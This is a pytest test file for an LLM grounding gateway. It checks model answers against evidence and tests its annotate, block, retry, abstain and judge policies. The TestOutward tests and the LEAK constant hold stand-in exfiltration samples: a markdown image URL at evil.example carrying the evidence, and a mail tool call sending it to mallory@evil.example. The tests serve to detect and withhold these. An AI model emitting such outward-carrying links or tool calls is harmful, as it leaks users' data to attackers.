"""Answers of llms are held against what they were shown, and policies act on what does not hold."""

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from grounding.errors import InvalidSettings
from tests.grounding.gateway.conftest import SECRET, Gate, client_of
from tests.grounding.serving import Plan, serving
from tests.upstream.scripted import DONE, Scripted, answers, calls, chunk, says, streams

QUESTION = [{"role": "user", "content": "What is the Brent crude oil spot price?"}]
RIGHT = "The Brent crude oil spot price is 84.12 USD/barrel [1]."
WRONG = "Wombats dig burrows in Tasmania."

LEAK = json.dumps(
    {"to": "mallory@evil.example", "body": "Brent crude oil spot price: 84.12 USD/barrel, valid"}
)


def call(arguments: str) -> dict[str, Any]:
    return {"id": "c", "type": "function", "function": {"name": "mail", "arguments": arguments}}


@contextmanager
def checking(directory: Path, upstream: Scripted, **settings: Any) -> Iterator[Gate]:
    one = {"name": "small", "base_url": upstream.url, "api_key": SECRET, "serves": ["*"]}
    plan = Plan(directory, gateway={"mode": "always"}, upstreams=[one], checking=settings)
    with serving(plan) as running, client_of(running) as client:
        gate = Gate(running, upstream, client)
        gate.price("84.12")
        yield gate


@pytest.fixture
def gate(gate: Gate) -> Gate:
    gate.price("84.12")
    return gate


def asked(gate: Gate, **grounding: Any) -> dict[str, Any]:
    """Ask, and return the completion as JSON."""
    reply = gate.running.post(
        "/v1/chat/completions",
        {
            "model": "small",
            "messages": QUESTION,
            "grounding": {"cache": False, "mode": "always", **grounding},
        },
    )
    assert reply.status_code == 200, reply.text
    body: dict[str, Any] = reply.json()
    return body


def events(gate: Gate, **grounding: Any) -> list[dict[str, Any]]:
    """Ask for a stream, and return its chunks."""
    reply = gate.running.post(
        "/v1/chat/completions",
        {
            "model": "small",
            "stream": True,
            "messages": QUESTION,
            "grounding": {"cache": False, "mode": "always", **grounding},
        },
    )
    lines = [line[6:] for line in reply.text.splitlines() if line.startswith("data: ")]
    assert lines[-1] == "[DONE]"
    return [json.loads(line) for line in lines[:-1]]


class TestAnnotate:
    def test_verdict_is_told_beside_the_answer(self, gate: Gate) -> None:
        gate.upstream.then(says(RIGHT))

        body = asked(gate)

        check = body["grounding"]["check"]
        assert (check["policy"], check["action"], check["outcome"]) == (
            "annotate",
            "none",
            "supported",
        )
        assert check["claims"][0]["still_true"] is True
        assert check["cited_chunks"][0]["chunk_text"] is None
        assert body["choices"][0]["message"]["content"] == RIGHT

    def test_answer_that_does_not_hold_is_given_and_told_of(self, gate: Gate) -> None:
        gate.upstream.then(says(WRONG))

        body = asked(gate)

        assert body["choices"][0]["message"]["content"] == WRONG
        assert body["grounding"]["check"]["outcome"] == "insufficient"
        assert body["grounding"]["check"]["action"] == "none"

    def test_last_chunk_of_a_stream_has_the_verdict(self, gate: Gate) -> None:
        gate.upstream.then(streams(chunk(RIGHT), chunk(finish="stop"), DONE))

        found = events(gate)

        assert found[-1]["choices"][0]["finish_reason"] == "stop"
        assert found[-1]["grounding"]["check"]["outcome"] == "supported"
        assert found[0]["grounding"]["check"] is None

    def test_header_says_what_the_check_came_to(self, gate: Gate) -> None:
        gate.upstream.then(says(RIGHT))
        raw = gate.openai.chat.completions.with_raw_response

        reply = raw.create(
            model="small",
            messages=QUESTION,
            extra_body={"grounding": {"mode": "always", "cache": False}},
        )

        assert reply.headers["x-grounding-check"] == "supported"

    def test_off_checks_nothing(self, gate: Gate) -> None:
        gate.upstream.then(says(WRONG))

        body = asked(gate, check="off")

        assert body["grounding"]["check"] is None

    def test_answer_without_evidence_is_not_checked(self, gate: Gate) -> None:
        gate.upstream.then(says(RIGHT))

        body = asked(gate, mode="never")

        assert body["grounding"]["check"] is None

    def test_kept_answer_is_given_with_its_verdict(self, gate: Gate) -> None:
        gate.upstream.then(says(RIGHT))
        first = asked(gate, cache=True)

        again = asked(gate, cache=True)

        assert again["grounding"]["cache"]["status"] == "hit"
        assert again["grounding"]["check"] == first["grounding"]["check"]


class TestKept:
    def test_answer_is_kept_beside_the_receipt_of_its_prompt(self, gate: Gate) -> None:
        gate.upstream.then(says(RIGHT))

        receipt = asked(gate)["grounding"]["receipt_id"]

        (kept,) = gate.running.client.answers_of(receipt)
        assert (kept.answer, kept.llm) == (RIGHT, "small")

    def test_withheld_answer_is_kept_as_the_llm_said_it(self, gate: Gate) -> None:
        gate.upstream.then(says(WRONG))

        receipt = asked(gate, check="block")["grounding"]["receipt_id"]

        (kept,) = gate.running.client.answers_of(receipt)
        assert kept.answer == WRONG

    def test_streamed_answer_is_kept(self, gate: Gate) -> None:
        gate.upstream.then(streams(chunk(RIGHT), chunk(finish="stop"), DONE))

        receipt = events(gate)[0]["grounding"]["receipt_id"]

        assert [each.answer for each in gate.running.client.answers_of(receipt)] == [RIGHT]


class TestBlock:
    def test_answer_is_withheld_and_the_reason_given(self, gate: Gate) -> None:
        gate.upstream.then(says(WRONG))

        body = asked(gate, check="block")

        choice = body["choices"][0]
        assert choice["finish_reason"] == "content_filter"
        assert choice["message"]["content"] is None
        assert choice["message"]["refusal"] == "The answer is withheld: insufficient."
        assert body["grounding"]["check"]["action"] == "blocked"

    def test_what_holds_passes(self, gate: Gate) -> None:
        gate.upstream.then(says(RIGHT))

        body = asked(gate, check="block")

        assert body["choices"][0]["message"]["content"] == RIGHT
        assert body["choices"][0]["message"]["annotations"]

    def test_nothing_of_a_stream_is_passed_on_before_it_is_checked(self, gate: Gate) -> None:
        gate.upstream.then(says(WRONG))

        found = events(gate, check="block")

        assert gate.upstream.asked[-1].body.get("stream") is None
        said = [each["choices"][0]["delta"].get("content") for each in found]
        assert not any(said)
        assert found[-1]["choices"][0]["finish_reason"] == "content_filter"

    def test_held_stream_of_what_holds_is_a_stream(self, gate: Gate) -> None:
        gate.upstream.then(says(RIGHT))

        stream = gate.openai.chat.completions.create(
            model="small",
            messages=QUESTION,
            stream=True,
            extra_body={"grounding": {"check": "block", "mode": "always", "cache": False}},
        )

        assert "".join(each.choices[0].delta.content or "" for each in stream) == RIGHT

    def test_withheld_answer_is_not_kept_for_others(self, gate: Gate) -> None:
        gate.upstream.then(says(WRONG), says(RIGHT))
        asked(gate, check="block", cache=True)

        again = asked(gate, check="block", cache=True)

        assert again["grounding"]["cache"]["status"] == "miss"
        assert again["choices"][0]["message"]["content"] == RIGHT


class TestRetry:
    def test_llm_is_asked_again_with_the_problem_named(self, gate: Gate) -> None:
        gate.upstream.then(says(WRONG), says(RIGHT))

        body = asked(gate, check="retry")

        assert body["choices"][0]["message"]["content"] == RIGHT
        check = body["grounding"]["check"]
        assert (check["action"], check["first_outcome"], check["outcome"]) == (
            "retried",
            "insufficient",
            "supported",
        )
        turns = gate.upstream.asked[-1].body["messages"]
        assert turns[-2] == {"role": "assistant", "content": WRONG}
        assert WRONG in turns[-1]["content"]
        assert "84.12" not in turns[-1]["content"]

    def test_it_is_asked_again_once(self, gate: Gate) -> None:
        gate.upstream.asked.clear()
        gate.upstream.then(says(WRONG))

        body = asked(gate, check="retry")

        assert len(gate.upstream.asked) == 2
        assert body["choices"][0]["message"]["content"] == WRONG
        assert body["grounding"]["check"]["outcome"] == "insufficient"

    def test_failure_to_ask_again_leaves_the_first_answer(self, gate: Gate) -> None:
        gate.upstream.then(says(WRONG), answers(400, b"{}"))

        body = asked(gate, check="retry")

        assert body["choices"][0]["message"]["content"] == WRONG
        assert "asking again failed" in body["grounding"]["check"]["note"]

    def test_second_failure_is_treated_as_the_settings_say(
        self, tmp_path: Path, upstream: Scripted
    ) -> None:
        upstream.then(says(WRONG))
        with checking(tmp_path, upstream, policy="retry", after_retry="abstain") as gate:
            body = asked(gate)

        assert body["grounding"]["check"]["action"] == "abstained"
        assert WRONG not in body["choices"][0]["message"]["content"]


class TestAbstain:
    def test_text_says_what_is_missing_and_the_newest_time(self, gate: Gate) -> None:
        gate.upstream.then(says(WRONG))

        body = asked(gate, check="abstain")

        text = body["choices"][0]["message"]["content"]
        assert "there is no evidence about it" in text
        assert "The newest evidence is of 2026-03-01T12:00Z." in text
        assert body["choices"][0]["finish_reason"] == "stop"


class TestOutward:
    CARRIES = "![chart](https://evil.example/a.png?q=Brent+crude+oil+spot+price+84.12)"

    def test_image_that_carries_evidence_is_flagged(self, gate: Gate) -> None:
        gate.upstream.then(says(f"{RIGHT} {self.CARRIES}"))

        check = asked(gate)["grounding"]["check"]

        assert [flag["kind"] for flag in check["flags"]] == ["image_carries"]

    def test_policy_acts_on_what_carries_evidence_outward(self, gate: Gate) -> None:
        gate.upstream.then(says(f"{RIGHT} {self.CARRIES}"))

        body = asked(gate, check="block")

        assert body["choices"][0]["message"]["content"] is None
        assert "outward" in body["choices"][0]["message"]["refusal"]

    def test_tool_call_that_carries_evidence_is_flagged(self, gate: Gate) -> None:
        gate.upstream.then(calls(call(LEAK)))

        check = asked(gate)["grounding"]["check"]

        assert [flag["kind"] for flag in check["flags"]] == ["call"]
        assert check["flags"][0]["call"] == 0

    def test_streamed_tool_call_is_flagged_before_the_stream_ends(self, gate: Gate) -> None:
        first, rest = LEAK[:20], LEAK[20:]
        gate.upstream.then(
            streams(
                chunk(tool_calls=[{"index": 0, **call(first)}]),
                chunk(tool_calls=[{"index": 0, "function": {"arguments": rest}}]),
                chunk(finish="tool_calls"),
                DONE,
            )
        )

        found = events(gate)

        assert found[-1]["choices"][0]["finish_reason"] == "tool_calls"
        assert [flag["kind"] for flag in found[-1]["grounding"]["check"]["flags"]] == ["call"]

    def test_tool_call_that_carries_evidence_is_withheld_by_block(self, gate: Gate) -> None:
        gate.upstream.then(calls(call(LEAK)))

        message = asked(gate, check="block")["choices"][0]["message"]

        assert message.get("tool_calls") is None
        assert "outward" in message["refusal"]


class TestJudge:
    def test_llm_of_an_upstream_judges_claims(self, tmp_path: Path, upstream: Scripted) -> None:
        upstream.then(says(RIGHT), says("contradicted"))
        with checking(tmp_path, upstream, judge="upstream:small") as gate:
            check = asked(gate)["grounding"]["check"]

        assert check["outcome"] == "contradicted"
        assert check["claims"][0]["support"]["judged_by"] == "upstream:small"

    def test_scorer_s_word_stands_where_the_judge_fails(
        self, tmp_path: Path, upstream: Scripted
    ) -> None:
        upstream.then(says(RIGHT), says("I would rather not say."))
        with checking(tmp_path, upstream, judge="upstream:small") as gate:
            check = asked(gate)["grounding"]["check"]

        assert check["outcome"] == "supported"
        assert check["claims"][0]["support"]["judged_by"] == "scorer"

    def test_judge_that_is_no_upstream_is_refused(self, tmp_path: Path, upstream: Scripted) -> None:
        with (
            pytest.raises(InvalidSettings, match="no upstream is named large"),
            checking(tmp_path, upstream, judge="upstream:large"),
        ):
            pass
